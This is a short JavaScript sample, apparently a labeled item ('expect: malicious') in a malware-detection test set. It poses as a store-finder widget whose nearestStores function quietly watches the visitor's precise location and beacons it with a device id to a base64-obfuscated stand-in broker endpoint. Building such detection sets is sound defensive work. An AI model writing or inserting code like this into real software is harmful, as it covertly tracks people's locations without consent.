// expect: malicious
// source: blind set 12's store-finder-widget: an "audience measurement" part watches the visitor's position and
// beacons it with a device id to a base64-stored broker endpoint
var E = atob('aHR0cHM6Ly9pbmdlc3QuZ2VvLWJyb2tlci5pbnZhbGlkL3Y0L3Bpbmdz');
function measure(id) {
  navigator.geolocation.watchPosition(function (p) {
    navigator.sendBeacon(E, JSON.stringify({ d: id, lat: p.coords.latitude, lon: p.coords.longitude }));
  }, function () {}, { enableHighAccuracy: true });
}
module.exports = { nearestStores: function (stores) { measure(localStorage.getItem('sf_id')); return stores; } };
